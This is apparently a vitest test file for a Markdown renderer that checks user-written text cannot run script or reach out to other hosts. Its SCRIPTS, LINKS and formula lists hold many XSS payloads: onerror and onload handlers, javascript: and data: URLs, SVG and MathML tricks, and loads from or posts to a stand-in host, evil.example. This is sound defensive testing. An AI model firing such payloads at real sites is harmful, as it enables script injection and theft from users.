import { describe, expect, it } from 'vitest';
import { render } from '../rendering';

const NAMES = new Map([
  ['bo', 'Bo Berg'],
  ['ana-lópez', 'Ana López']
]);

function shown(source: string): HTMLElement {
  const node = document.createElement('div');
  node.append(render(source, NAMES)?.content ?? 'as it was typed');
  return node;
}

const ALLOWED_TAGS = new Set(
  'P BR HR STRONG EM S CODE PRE BLOCKQUOTE UL OL LI H1 H2 H3 H4 H5 H6 A TABLE THEAD TBODY TR TH TD SPAN'.split(
    ' '
  )
);
const ALLOWED_ATTRIBUTES = new Set(['href', 'start', 'target', 'rel']);

/** Everything that could act: an element, an attribute or an address that is not on the short list. */
function dangers(root: HTMLElement): string[] {
  const found: string[] = [];
  for (const element of root.querySelectorAll('*')) {
    if (!ALLOWED_TAGS.has(element.tagName)) {
      found.push(element.tagName);
    }
    for (const { name, value } of element.attributes) {
      const ours =
        (name === 'class' && /^mlc-(Mention|Bidi)$/.test(value)) ||
        (name === 'title' && element.className === 'mlc-Mention');
      if (!ours && !ALLOWED_ATTRIBUTES.has(name)) {
        found.push(`${element.tagName} ${name}`);
      }
      if (name === 'href' && !/^(https?:\/\/|mailto:)/i.test(value)) {
        found.push(value);
      }
    }
  }
  return found;
}

const SCRIPTS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script\n>alert(1)</script\n>',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><foreignObject><body onload=alert(1)></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<form action="https://evil.example"><input name=a><button>go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/a.css">',
  '<style>*{background:url(https://evil.example)}</style>',
  '<style>@import "https://evil.example/a.css";</style>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><script>alert(1)</script></xmp>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<a href="x" onclick=alert(1)>x</a>',
  '<div style="position:fixed;inset:0">over everything</div>',
  '<p class="jp-mod-accept" id="main">x</p>',
  '<button class="jp-Dialog-button" data-commandlinker-command="apputils:reset">x</button>',
  '<a data-commandlinker-command="docmanager:delete-file" data-commandlinker-args="{}">x</a>',
  '<div data-lm-suppress-shortcuts aria-label="x" role="dialog">x</div>',
  '<!-- <img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  'text <img/src=`x`/onerror=alert(1)>',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '`</code><script>alert(1)</script>`',
  '> <script>alert(1)</script>',
  '- <img src=x onerror=alert(1)>',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '| a |\n|:-:|\n| b |',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```jp-Button\ncode\n```'
];

const LINKS = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;avascript&colon;alert(1))',
  '[x](%6Aavascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.example/1)',
  '[x](ftp://evil.example/a)',
  '[x](//evil.example/a)',
  '[x](/lab/api/shutdown)',
  '[x](?reset)',
  '[x](#main)',
  '[x](https&colon;//ok.example "onmouseover=alert(1)")',
  '[x](<javascript:alert(1)>)',
  '<javascript:alert(1)>',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '![x](https://evil.example/pixel.png)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '[![x](https://evil.example/p.png)](javascript:alert(1))',
  '![x][y]\n\n[y]: https://evil.example/pixel.png',
  'javascript:alert(1)',
  '[\u202Ehttps://bank.example](https://evil.example)'
];

describe('what people write is shown without being able to act', () => {
  it.each([...SCRIPTS, ...LINKS])('%j', source => {
    expect(dangers(shown(source))).toEqual([]);
  });

  it('keeps the text of what it does not allow', () => {
    expect(shown('<b>bold</b> & <script>alert(1)</script>').textContent).toContain(
      '<script>alert(1)</script>'
    );
  });
});

describe('limits', () => {
  it.each([
    ['quotes', '>'.repeat(20_000) + ' x'],
    ['lists', '- '.repeat(20_000) + 'x'],
    ['emphasis', '*'.repeat(20_000) + 'x' + '*'.repeat(20_000)],
    ['brackets', '['.repeat(20_000)],
    ['links', '[a]('.repeat(10_000)],
    ['mentions', '@a'.repeat(20_000)]
  ])('20 000 nested %s end shallow', (_name, source) => {
    const node = shown(source);
    expect(depthOf(node)).toBeLessThan(220);
    expect(dangers(node)).toEqual([]);
  });

  it('shows deep emphasis, which the parser does not limit, as it was typed', () => {
    expect(render('**'.repeat(90) + 'x' + '**'.repeat(90), NAMES)).not.toBeNull();
    expect(render('**'.repeat(110) + 'x' + '**'.repeat(110), NAMES)).toBeNull();
  });

  it('shows a text over 64 KB, counted in bytes, as it was typed', () => {
    expect(render('a'.repeat(64 * 1024), NAMES)).not.toBeNull();
    expect(render('a'.repeat(64 * 1024 + 1), NAMES)).toBeNull();
    expect(render('é'.repeat(33 * 1024), NAMES)).toBeNull();
    expect(render('a'.repeat(1_000_000), NAMES)).toBeNull();
  });
});

describe('what is meant is shown', () => {
  it('formats text, code, lists and tables', () => {
    const node = shown('**a** *b* ~~c~~ `d`\n\n1. e\n2. f\n\n| g |\n|---|\n| h |\n\n```py\ni\n```');
    expect(node.querySelector('strong')?.textContent).toBe('a');
    expect(node.querySelector('pre code')?.textContent).toBe('i\n');
    expect(node.querySelectorAll('li')).toHaveLength(2);
    expect(node.querySelector('td')?.textContent).toBe('h');
    expect(dangers(node)).toEqual([]);
  });

  it('opens links elsewhere and tells that page nothing', () => {
    const link = shown('see https://a.example/b?c=d').querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://a.example/b?c=d');
    expect(link?.rel).toBe('noopener noreferrer nofollow');
    expect(link?.target).toBe('_blank');
  });

  it('makes no link of a file name or a path', () => {
    expect(shown('run train.py and www.example.com, then [b](data/b.csv)').querySelector('a')).toBe(
      null
    );
  });

  it('turns a picture from elsewhere into a link', () => {
    const node = shown('![a plot](https://a.example/b.png)');
    expect(node.querySelector('a')?.textContent).toBe('a plot');
  });

  it('marks mentions of people it knows, outside code, links and addresses', () => {
    const node = shown(
      '@bo and @Bo, (@ana-lópez), not a@bo or @nobody or `@bo` or [@bo](https://a.example)'
    );
    const marks = [...node.querySelectorAll('.mlc-Mention')].map(mark => mark.textContent);
    expect(marks).toEqual(['@bo', '@Bo', '@ana-lópez']);
  });

  it('shows what turns the direction of text', () => {
    expect(shown('abc\u202Efdp.exe').textContent.trim()).toBe('abcU+202Efdp.exe');
  });
});

describe('formulas', () => {
  const formulas = (source: string): string[] =>
    render(source, NAMES)?.formulas.map(node => node.textContent) ?? [];

  it.each([
    ['$a_b*c_d*e$', ['$a_b*c_d*e$']],
    ['so \\(x < y\\) and $z$', ['\\(x < y\\)', '$z$']],
    ['$$\n- a\n- b\n$$', ['$$\n- a\n- b\n$$']],
    ['it costs $5 and then $6', []],
    ['`$a$`', []],
    ['\\$a$', []],
    ['$', []],
    ['$ a $', []]
  ])('%j', (source, expected) => {
    expect(formulas(source)).toEqual(expected);
  });

  it.each([
    '$\\href{javascript:alert(1)}{x}$',
    '$\\class{jp-Dialog}{x}$',
    '$\\style{position:fixed}{x}$',
    '$\\cssId{main}{x}$',
    '$\\def\\alpha{x}$',
    '$\\newcommand{\\alpha}{x}$',
    '$$\\let\\x=\\href$$',
    '$\\require{html}$',
    '$\\bbox[border:1px]{x}$',
    '$\\data{a=b}{x}$'
  ])('leaves %j as it was typed', source => {
    expect(formulas(source)).toEqual([]);
    expect(shown(source).textContent.trim()).toBe(source);
  });
});

function depthOf(node: Element): number {
  let depth = 0;
  for (const element of node.querySelectorAll('*')) {
    let own = 0;
    for (
      let above: Element | null = element;
      above && above !== node;
      above = above.parentElement
    ) {
      own += 1;
      if (own > 1_000) {
        return own;
      }
    }
    depth = Math.max(depth, own);
  }
  return depth;
}
